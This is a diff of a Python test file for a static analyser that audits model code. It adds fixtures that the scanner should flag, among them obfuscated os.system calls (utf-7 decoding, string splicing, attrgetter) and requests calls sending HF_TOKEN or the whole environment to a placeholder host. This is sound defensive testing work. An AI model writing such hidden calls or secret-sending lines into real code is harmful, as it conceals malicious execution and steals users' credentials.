@@ -12,8 +12,9 @@ from modelaudit.languages.python.analysis import analyze_source
 from modelaudit.model.outline import Outline, Reference, ReferenceKind, References
 from modelaudit.model.structure import UnreadReason
 
-# Names under which a call of an unknown function is recorded.
-UNKNOWN_FUNCTIONS = ("(function that is worked out)", "(function that a file names)")
+# Names under which the call of a function that the source does not write out is recorded.
+COMPUTED_FUNCTION = "(function that is worked out)"
+FUNCTION_FROM_FILE = "(function that a file names)"
 
 
 def list_uses(source: str) -> set[tuple[str, str]]:
@@ -30,8 +31,8 @@ def list_uses(source: str) -> set[tuple[str, str]]:
         ("def f(a): getattr(a, 'po' + 'pen')('x')", "hidden", "*.popen"),
         ("import os\nos.posix.getcwd.__self__.system('x')", "call-at-import", "os.system"),
         ("import json, importlib\nd = json.load(open('a'))\ngetattr(importlib.import_module(d['a']), 'b')()",
-         "call-at-import", UNKNOWN_FUNCTIONS[1]),
-        ("import sys\nfor n, m in sys.modules.items(): getattr(m, n)()", "call-at-import", UNKNOWN_FUNCTIONS[0]),
+         "call-at-import", FUNCTION_FROM_FILE),
+        ("import sys\nfor n, m in sys.modules.items(): getattr(m, n)()", "call-at-import", COMPUTED_FUNCTION),
         ("from .a import run\nimport os\nrun(os)", "computed-name", "os.*"),
         ("import torch, operator\noperator.attrgetter(x)(torch)", "computed-name", "(package).*"),
         ("import requests.api\nrequests.api.get(u)", "call-at-import", "requests.get"),
@@ -39,6 +40,16 @@ def list_uses(source: str) -> set[tuple[str, str]]:
         ("import os, requests\nrequests.post('https://a.invalid', data=os.environ['HF_TOKEN'])", "sends-secret", "requests.post"),
         ("import os, requests\nrequests.get('https://a.invalid', headers={'a': os.getenv('X_API_KEY')})",
          "sends-secret", "requests.get"),
+        ("import os, requests\nrequests.post(url='https://a.invalid', headers={'a': os.environ['HF_TOKEN']})",
+         "sends-secret", "requests.post"),
+        ("import os, requests\nd = {}\nrequests.post('https://a.invalid', **os.environ, **d['a'])", "sends-secret", "requests.post"),
+        ("import os\ngetattr(os, b's+AHk-stem'.decode(encoding='utf-7'))('x')", "hidden", "os.system"),
+        ("import os\ngetattr(os, b's+AHk-stem'.decode(errors='strict', encoding='utf-7'))('x')", "hidden", "os.system"),
+        ("import os\ngetattr(os, str(errors='strict', encoding='utf-7', object=b's+AHk-stem'))('x')", "hidden", "os.system"),
+        ("import os\ngetattr(os, 'ssystem'.replace('s', '', 1))('x')", "hidden", "os.system"),
+        ("import os\ngetattr(os, 'a-sys-tem'.split('-', 1)[1].replace('-', ''))('x')", "hidden", "os.system"),
+        ("import os\nmatch {'a': os.system}:\n    case {**rest}: rest['a']('x')", "call-at-import", "os.system"),
+        ("import os\nfrom operator import attrgetter\nattrgetter('path', 'system')(os)[1]('x')", "call-at-import", "os.system"),
         ("open('a.py', 'w').write(x)", "call-at-import", "(writes code)"),
         ("import pathlib\n(pathlib.Path(x) / 'a.py').write_text('x')", "call-at-import", "(writes code)"),
         ("import torch\ndef f(): open(torch.__file__, 'w')", "call", "(writes where programs are installed)"),
@@ -64,8 +75,7 @@ def test_data_flows_and_hidden_calls_are_recorded(source: str, use: str, name: s
         ("prompts['system']", "*.system"),
         ("import torch\ngetattr(torch, config.dtype)", "(package).*"),
         ("import functools\ndef f(module, path): return functools.reduce(getattr, path.split('.'), module)", "(package).*"),
-        ("import importlib\ndef f(a, b): return getattr(importlib.import_module(a), b)", UNKNOWN_FUNCTIONS[0]),
-        ("import os\nos.getenv('TOKENIZERS_PARALLELISM')", "requests.post"),
+        ("import importlib\ndef f(a, b): return getattr(importlib.import_module(a), b)", COMPUTED_FUNCTION),
         ("open('a.json', 'w')", "(writes code)"),
         ("open('a.py').read()", "(writes code)"),
         ("import torch\nopen(torch.__file__)", "(writes where programs are installed)"),
@@ -87,9 +97,11 @@ def test_ordinary_code_is_not_recorded(source: str, name: str) -> None:
     "source",
     [
         "import os, requests\nrequests.get('https://huggingface.co/api', params={'a': os.environ['HF_TOKEN']})",
+        "import os, requests\nrequests.get(url='https://huggingface.co/api', params={'a': os.environ['HF_TOKEN']})",
         "import os, huggingface_hub\nhuggingface_hub.upload_file(a, b, token=os.environ['HF_TOKEN'])",
         "import os, requests\nrequests.get(u, headers={'a': os.environ['HF_TOKEN']})",
         "import os, requests\nrequests.post('https://a.invalid', data=os.environ['RANK'])",
+        "import os, requests\nrequests.post('https://a.invalid', data=os.getenv('TOKENIZERS_PARALLELISM'))",
     ],
 )
 def test_token_used_to_authenticate_at_the_hub_is_not_recorded_as_a_sent_secret(source: str) -> None:
